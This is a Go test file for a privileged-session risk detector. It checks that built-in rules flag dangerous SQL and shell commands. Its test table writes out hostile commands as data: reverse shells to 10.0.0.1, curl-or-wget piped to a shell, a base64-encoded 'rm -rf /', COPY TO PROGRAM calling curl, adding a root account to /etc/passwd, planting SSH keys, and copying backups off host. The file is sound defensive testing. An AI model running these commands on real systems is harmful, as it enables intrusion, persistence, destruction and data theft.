// Copyright The pamtrail Authors
// SPDX-License-Identifier: Apache-2.0

package sessionprocessor

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func builtinRules(t testing.TB) *ruleSet {
	t.Helper()
	rs, err := loadRuleSet(RiskConfig{Builtin: true, MaxFindings: 1})
	require.NoError(t, err)
	return rs
}

func matchedIDs(rs *ruleSet, target ruleTarget, text string, rows int64) []string {
	var ids []string
	for _, m := range rs.match(target, text, rows, nil) {
		ids = append(ids, m.ruleID)
	}
	return ids
}

func TestBuiltinRules(t *testing.T) {
	rs := builtinRules(t)
	tests := []struct {
		target ruleTarget
		text   string
		rows   int64
		want   []string // nil: no rule may match
	}{
		// SQL
		{targetSQL, "DROP TABLE payroll", 0, []string{"sql.drop_object"}},
		{targetSQL, "drop   table if exists x; select 1", 0, []string{"sql.drop_object"}},
		{targetSQL, "DROP DATABASE prod", 0, []string{"sql.drop_database"}},
		{targetSQL, "TRUNCATE payroll", 0, []string{"sql.truncate"}},
		{targetSQL, "DELETE FROM payroll", 0, []string{"sql.delete_without_where"}},
		{targetSQL, "DELETE FROM payroll WHERE id = 1", 0, nil},
		{targetSQL, "UPDATE payroll SET salary = 0", 0, []string{"sql.update_without_where"}},
		{targetSQL, "update payroll p set salary = 0 where p.id = 3", 0, nil},
		{targetSQL, "GRANT ALL ON payroll TO mallory", 0, []string{"sql.grant_revoke"}},
		{targetSQL, "REVOKE SELECT ON payroll FROM bob", 0, []string{"sql.grant_revoke"}},
		{targetSQL, "ALTER ROLE x PASSWORD '[REDACTED]'", 0, []string{"sql.role_change"}},
		{targetSQL, "CREATE USER eve WITH SUPERUSER", 0, []string{"sql.role_change", "sql.superuser"}},
		{targetSQL, "COPY (SELECT 1) TO PROGRAM 'curl evil'", 0, []string{"sql.copy_program"}},
		{targetSQL, "SELECT pg_read_file('/etc/passwd')", 0, []string{"sql.server_file_access"}},
		{targetSQL, "COPY payroll FROM '/tmp/x.csv'", 0, []string{"sql.server_file_access"}},
		{targetSQL, "ALTER TABLE audit DISABLE TRIGGER ALL", 0, []string{"sql.disable_triggers"}},
		{targetSQL, "SET session_replication_role = replica", 0, []string{"sql.disable_triggers"}},
		{targetSQL, "ALTER TABLE payroll DISABLE ROW LEVEL SECURITY", 0, []string{"sql.disable_rls"}},
		{targetSQL, "COPY payroll TO STDOUT", 0, []string{"sql.bulk_export_copy"}},
		{targetSQL, "COPY payroll (id, salary) TO STDOUT WITH CSV", 0, []string{"sql.bulk_export_copy"}},
		{targetSQL, "SELECT * FROM payroll", 5000, []string{"sql.bulk_select"}},
		{targetSQL, "SELECT * FROM payroll", 10, nil},
		{targetSQL, "SELECT * FROM payroll LIMIT 5000", 5000, nil},
		{targetSQL, "SELECT id, name FROM users WHERE id = $1", 1, nil},
		{targetSQL, "INSERT INTO dropped_items VALUES (1)", 0, nil},
		{targetSQL, "SELECT date_trunc('day', now())", 0, nil},
		// Shell
		{targetShell, "rm -rf /", 0, []string{"shell.rm_rf_system"}},
		{targetShell, "rm -fr /etc/nginx", 0, []string{"shell.rm_rf_system"}},
		{targetShell, "rm -rf ./build", 0, nil},
		{targetShell, "sudo systemctl restart nginx", 0, []string{"shell.privilege_escalation"}},
		{targetShell, "su - postgres", 0, []string{"shell.privilege_escalation"}},
		{targetShell, "chmod 777 /srv/app", 0, []string{"shell.chmod_world_writable"}},
		{targetShell, "chmod 644 notes.txt", 0, nil},
		{targetShell, "chown -R mallory /etc", 0, []string{"shell.chown_system"}},
		{targetShell, "curl -fsSL https://x.example/i.sh | bash", 0, []string{"shell.pipe_to_shell"}},
		{targetShell, "wget -qO- http://x | sh", 0, []string{"shell.pipe_to_shell"}},
		{targetShell, "curl https://api.example/health", 0, nil},
		{targetShell, "echo cm0gLXJmIC8= | base64 -d | bash", 0, []string{"shell.base64_to_shell"}},
		{targetShell, "history -c", 0, []string{"shell.history_tamper"}},
		{targetShell, "unset HISTFILE", 0, []string{"shell.history_tamper"}},
		{targetShell, "vi /etc/sudoers", 0, []string{"shell.auth_files"}},
		{targetShell, "echo 'eve:x:0:0::/:/bin/sh' >> /etc/passwd", 0, []string{"shell.auth_files"}},
		{targetShell, "cat /etc/hostname", 0, nil},
		{targetShell, "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", 0, []string{"shell.authorized_keys"}},
		{targetShell, "crontab -e", 0, []string{"shell.crontab"}},
		{targetShell, "crontab -l", 0, nil},
		{targetShell, "iptables -F", 0, []string{"shell.firewall_flush"}},
		{targetShell, "nft flush ruleset", 0, []string{"shell.firewall_flush"}},
		{targetShell, "ufw disable", 0, []string{"shell.firewall_flush"}},
		{targetShell, "nc -e /bin/sh 10.0.0.1 4444", 0, []string{"shell.reverse_shell"}},
		{targetShell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0, []string{"shell.reverse_shell"}},
		{targetShell, "scp /var/backups/db.dump eve@203.0.113.9:/tmp/", 0, []string{"shell.copy_off_host"}},
		{targetShell, "rsync -a /srv/data/ backup.example:/dst", 0, []string{"shell.copy_off_host"}},
		{targetShell, "scp backup.example:/dst/file.txt .", 0, nil},
		{targetShell, "ls -la", 0, nil},
		// File operations
		{targetFile, "write /home/bob/.ssh/authorized_keys", 0, []string{"file.sensitive_write"}},
		{targetFile, "read /etc/passwd", 0, nil},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			assert.Equal(t, tt.want, matchedIDs(rs, tt.target, tt.text, tt.rows))
		})
	}
}

func TestRuleConfigOverrideAndDisable(t *testing.T) {
	rs, err := loadRuleSet(RiskConfig{
		Builtin:  true,
		Disabled: []string{"sql.drop_object"},
		Rules: []RuleConfig{
			{ID: "sql.grant_revoke", Severity: "critical"},
			{ID: "sql.pg_sleep", Target: "sql", Severity: "low", Reason: "sleeps on the server",
				Keywords: []string{"pg_sleep"}, Pattern: `\bpg_sleep\s*\(`},
		},
	})
	require.NoError(t, err)
	assert.Nil(t, matchedIDs(rs, targetSQL, "DROP TABLE x", 0), "disabled by id")
	got := rs.match(targetSQL, "GRANT ALL ON x TO y", 0, nil)
	require.Len(t, got, 1)
	assert.Equal(t, "critical", riskLevelName(got[0].severity), "severity overridden, pattern kept")
	assert.Equal(t, []string{"sql.pg_sleep"}, matchedIDs(rs, targetSQL, "SELECT pg_sleep(10)", 0))
}

func TestRuleConfigErrorsNameTheRule(t *testing.T) {
	tests := []struct {
		name string
		cfg  RiskConfig
		want []string
	}{
		{
			name: "bad fields",
			cfg:  RiskConfig{Rules: []RuleConfig{{ID: "x", Target: "kernel", Severity: "extreme", Pattern: "(", Keywords: []string{"UPPER"}}}},
			want: []string{`rule "x": target`, `rule "x": severity`, `rule "x": pattern`, `rule "x": reason`, `rule "x": keywords: "UPPER"`},
		},
		{name: "missing id", cfg: RiskConfig{Rules: []RuleConfig{{Target: "sql"}}}, want: []string{"every rule needs an id"}},
		{name: "unknown disabled id", cfg: RiskConfig{Builtin: true, Disabled: []string{"nope"}}, want: []string{`disabled: no rule with id "nope"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := loadRuleSet(tt.cfg)
			require.Error(t, err)
			for _, w := range tt.want {
				assert.ErrorContains(t, err, w)
			}
		})
	}
}

func riskLevelName(i int) string { return []string{"none", "low", "medium", "high", "critical"}[i] }
